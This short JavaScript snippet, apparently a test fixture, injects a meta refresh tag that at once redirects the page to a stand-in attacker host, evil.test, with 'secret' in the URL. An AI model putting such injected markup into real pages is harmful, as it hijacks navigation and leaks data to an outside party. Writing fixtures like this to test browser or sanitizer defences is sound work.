// Has a meta element navigate.

document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=refresh content="0;url=http://evil.test/?secret">');
